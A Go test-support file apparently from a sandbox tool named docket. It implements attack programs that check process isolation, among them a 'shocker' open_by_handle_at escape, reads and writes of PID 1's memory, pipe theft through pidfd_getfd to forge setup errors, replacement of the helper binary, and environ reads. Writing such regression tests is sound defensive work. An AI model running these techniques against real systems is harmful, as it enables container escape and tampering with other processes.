package sandbox

import (
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// The attack programs of process isolation (issue 12, holes 1, 2, 3, 4, 7,
// 8) and the must-work programs that go with them. Same convention as
// attackTable: exit 0 when the attack worked, 1 when it was refused.

// forgedSetupLine is what a command that got hold of the helper's setup
// pipe would write: a mount namespace failure, which used to make docket
// run it again with fewer namespaces.
const forgedSetupLine = `{"kind":"setup_error","layer":"mountns","error":"forged by the command"}` + "\n"

// inSandboxPID1 reports whether PID 1 is docket's helper, i.e. the attack
// runs inside a sandbox's PID namespace; the attacks on "the helper" then
// target PID 1, and outside they target the pid the test gave.
func inSandboxPID1() bool {
	b, err := os.ReadFile("/proc/1/cmdline")
	return err == nil && strings.Contains(string(b), HelperArg)
}

// targetPID is 1 inside a sandbox, else arg.
func targetPID(arg string) (int, error) {
	if inSandboxPID1() {
		return 1, nil
	}
	return strconv.Atoi(arg)
}

// capSets reads the five Cap* lines of a /proc status file.
func capSets(path string) (map[string]uint64, error) {
	b, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	sets := map[string]uint64{}
	for _, line := range strings.Split(string(b), "\n") {
		k, v, ok := strings.Cut(line, ":")
		if !ok || !strings.HasPrefix(k, "Cap") {
			continue
		}
		n, err := strconv.ParseUint(strings.TrimSpace(v), 16, 64)
		if err != nil {
			return nil, fmt.Errorf("%s: %s: %w", path, k, err)
		}
		sets[k] = n
	}
	if len(sets) != 5 {
		return nil, fmt.Errorf("%s: found %d capability sets, want 5", path, len(sets))
	}
	return sets, nil
}

func processAttacks() map[string]func(args []string) int {
	return map[string]func(args []string) int{
		// caps self|pid1: exit 0 when any capability set of this process
		// (or of any thread of PID 1) is not empty; it prints every set.
		"caps": func(a []string) int {
			var files []string
			switch a[0] {
			case "self":
				files = []string{"/proc/self/status"}
			case "pid1":
				var err error
				if files, err = filepath.Glob("/proc/1/task/*/status"); err != nil || len(files) == 0 {
					fmt.Fprintf(os.Stderr, "no threads of PID 1 readable: %v\n", err)
					return 3
				}
			default:
				return 2
			}
			held := false
			for _, f := range files {
				sets, err := capSets(f)
				if err != nil {
					fmt.Fprintln(os.Stderr, err)
					return 3
				}
				fmt.Printf("%s %v\n", f, sets)
				for _, v := range sets {
					held = held || v != 0
				}
			}
			cmdline, _ := os.ReadFile("/proc/1/cmdline")
			fmt.Printf("threads %d\nhelper is pid 1: %v\nre-executed init: %v\n", len(files), inSandboxPID1(),
				strings.Contains(string(cmdline), `"init":true`))
			if !held {
				return fail("no capability in any set")
			}
			return 0
		},
		// shocker TARGET MOUNTDIR [TYPE:HEXHANDLE]: open TARGET by its file
		// handle through the mount of MOUNTDIR, and append to it.
		"shocker": func(a []string) int {
			var h unix.FileHandle
			if len(a) > 2 {
				typ, hx, _ := strings.Cut(a[2], ":")
				t, err1 := strconv.ParseInt(typ, 10, 32)
				b, err2 := hex.DecodeString(hx)
				if err1 != nil || err2 != nil {
					return 2
				}
				h = unix.NewFileHandle(int32(t), b)
			} else {
				var err error
				if h, _, err = unix.NameToHandleAt(unix.AT_FDCWD, a[0], 0); err != nil {
					return fail("name_to_handle_at: %v", err)
				}
			}
			mfd, err := unix.Open(a[1], unix.O_RDONLY|unix.O_DIRECTORY, 0)
			if err != nil {
				return fail("open %s: %v", a[1], err)
			}
			fd, err := unix.OpenByHandleAt(mfd, h, unix.O_WRONLY|unix.O_APPEND)
			if err != nil {
				return fail("open_by_handle_at: %v", err)
			}
			if _, err := unix.Write(fd, []byte("pwned\n")); err != nil {
				return fail("write: %v", err)
			}
			return 0
		},
		// vm-rw PID ADDR: read, then write one byte of another process's
		// memory (PID 1 inside a sandbox). Exit 3 when the kernel let the
		// call reach the process but the address was not mapped there.
		"vm-rw": func(a []string) int {
			pid, err := targetPID(a[0])
			addr, err2 := strconv.ParseUint(a[1], 10, 64)
			if err != nil || err2 != nil {
				return 2
			}
			buf := []byte{0x42}
			local := []unix.Iovec{{Base: &buf[0], Len: 1}}
			remote := []unix.RemoteIovec{{Base: uintptr(addr), Len: 1}}
			code := 0
			for _, op := range []struct {
				name string
				fn   func(int, []unix.Iovec, []unix.RemoteIovec, uint) (int, error)
			}{{"process_vm_readv", unix.ProcessVMReadv}, {"process_vm_writev", unix.ProcessVMWritev}} {
				buf[0] = 0x42
				_, err := op.fn(pid, local, remote, 0)
				switch {
				case err == nil:
				case errors.Is(err, unix.EFAULT):
					fmt.Fprintf(os.Stderr, "%s reached pid %d: %v\n", op.name, pid, err)
					code = max(code, 3)
				default:
					return fail("%s pid %d: %v", op.name, pid, err)
				}
			}
			return code
		},
		// forge-report PID TOKEN: print TOKEN (one line per run), then take
		// every pipe of PID (1 inside a sandbox) through pidfd_getfd or
		// /proc/PID/fd and write a forged setup report into it.
		"forge-report": func(a []string) int {
			fmt.Printf("RUN %s\n", a[1])
			pid, err := targetPID(a[0])
			if err != nil {
				return 2
			}
			var errs []string
			forged := 0
			pidfd, perr := unix.PidfdOpen(pid, 0)
			if perr != nil {
				errs = append(errs, fmt.Sprintf("pidfd_open: %v", perr))
			}
			for fd := 0; fd < 64; fd++ {
				if perr == nil {
					if got, gerr := unix.PidfdGetfd(pidfd, fd, 0); gerr == nil {
						forged += forgeInto(got)
						unix.Close(got)
					} else if !errors.Is(gerr, unix.EBADF) {
						errs = append(errs, fmt.Sprintf("pidfd_getfd %d: %v", fd, gerr))
					}
				}
				if f, oerr := os.OpenFile(fmt.Sprintf("/proc/%d/fd/%d", pid, fd), os.O_WRONLY|unix.O_NONBLOCK, 0); oerr == nil {
					forged += forgeInto(int(f.Fd()))
					f.Close()
				} else if !errors.Is(oerr, unix.ENOENT) {
					errs = append(errs, fmt.Sprintf("/proc/%d/fd/%d: %v", pid, fd, oerr))
				}
			}
			if forged == 0 {
				return fail("forged nothing: %s", strings.Join(dedupe(errs), "; "))
			}
			fmt.Printf("forged %d\n", forged)
			return 0
		},
		// read-environ PID: read another process's environment (PID 1
		// inside a sandbox), which needs it dumpable.
		"read-environ": func(a []string) int {
			pid, err := targetPID(a[0])
			if err != nil {
				return 2
			}
			b, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid))
			if err != nil {
				return fail("%v", err)
			}
			if len(b) == 0 {
				return fail("empty environment")
			}
			return 0
		},
		// write-fd N: write to descriptor N, which this process did not open.
		"write-fd": func(a []string) int {
			fd, err := strconv.Atoi(a[0])
			if err != nil {
				return 2
			}
			if _, err := unix.Write(fd, []byte("pwned\n")); err != nil {
				return fail("write fd %d: %v", fd, err)
			}
			return 0
		},
		// shm-write KEY: write into the SysV shared memory segment KEY.
		"shm-write": func(a []string) int {
			key, err := strconv.Atoi(a[0])
			if err != nil {
				return 2
			}
			id, err := unix.SysvShmGet(key, 0, 0)
			if err != nil {
				return fail("shmget: %v", err)
			}
			mem, err := unix.SysvShmAttach(id, 0, 0)
			if err != nil {
				return fail("shmat: %v", err)
			}
			copy(mem, "pwned")
			_ = unix.SysvShmDetach(mem)
			return 0
		},
		// mq-create NAME: create the POSIX message queue /NAME.
		"mq-create": func(a []string) int {
			fd, err := mqOpen(a[0], unix.O_CREAT|unix.O_RDWR)
			if err != nil {
				return fail("mq_open: %v", err)
			}
			unix.Close(fd)
			return 0
		},
		// threads N: run N OS threads at once.
		"threads": func(a []string) int {
			n, err := strconv.Atoi(a[0])
			if err != nil {
				return 2
			}
			var started, release sync.WaitGroup
			started.Add(n)
			release.Add(1)
			for i := 0; i < n; i++ {
				go func() {
					runtime.LockOSThread()
					started.Done()
					release.Wait()
				}()
			}
			started.Wait()
			b, err := os.ReadFile("/proc/self/status")
			release.Done()
			if err != nil {
				return fail("%v", err)
			}
			for _, line := range strings.Split(string(b), "\n") {
				if v, ok := strings.CutPrefix(line, "Threads:"); ok {
					if got, _ := strconv.Atoi(strings.TrimSpace(v)); got >= n {
						fmt.Printf("threads %d\n", got)
						return 0
					}
					return fail("only %s threads", strings.TrimSpace(v))
				}
			}
			return fail("no Threads line")
		},
		// replace-helper PATH: put a script in place of the helper binary at
		// PATH, by a rename over it, or by renaming its directory away and
		// replanting it.
		"replace-helper": func(a []string) int {
			path := a[0]
			dir := filepath.Dir(path)
			script := "#!/bin/sh\necho unconfined > " + a[1] + "\n"
			var errs []string
			evil := filepath.Join(filepath.Dir(dir), "evil-helper")
			if err := os.WriteFile(evil, []byte(script), 0o755); err != nil {
				return fail("%v", err)
			}
			if err := os.Rename(evil, path); err == nil {
				return 0
			} else {
				errs = append(errs, err.Error())
			}
			if err := os.Rename(dir, dir+"-old"); err != nil {
				return fail("%s; %v", strings.Join(errs, "; "), err)
			}
			if err := os.MkdirAll(dir, 0o755); err != nil {
				return fail("%v", err)
			}
			if err := os.WriteFile(path, []byte(script), 0o755); err != nil {
				return fail("%v", err)
			}
			return 0
		},
	}
}

// forgeInto writes the forged setup line into fd when it is a pipe.
func forgeInto(fd int) int {
	var st unix.Stat_t
	if unix.Fstat(fd, &st) != nil || st.Mode&unix.S_IFMT != unix.S_IFIFO {
		return 0
	}
	if _, err := unix.Write(fd, []byte(forgedSetupLine)); err != nil {
		return 0
	}
	return 1
}

func dedupe(s []string) []string {
	seen := map[string]bool{}
	var out []string
	for _, x := range s {
		if !seen[x] {
			seen[x] = true
			out = append(out, x)
		}
	}
	return out
}

// mqOpen is mq_open(3) without libc: the system call takes the name
// without its leading slash.
func mqOpen(name string, flags int) (int, error) {
	p, err := syscall.BytePtrFromString(strings.TrimPrefix(name, "/"))
	if err != nil {
		return -1, err
	}
	fd, _, errno := unix.Syscall6(unix.SYS_MQ_OPEN, uintptr(unsafe.Pointer(p)), uintptr(flags), 0o600, 0, 0, 0)
	if errno != 0 {
		return -1, errno
	}
	return int(fd), nil
}

// mqUnlink removes the POSIX message queue /name.
func mqUnlink(name string) error {
	p, err := syscall.BytePtrFromString(strings.TrimPrefix(name, "/"))
	if err != nil {
		return err
	}
	if _, _, errno := unix.Syscall(unix.SYS_MQ_UNLINK, uintptr(unsafe.Pointer(p)), 0, 0); errno != 0 {
		return errno
	}
	return nil
}
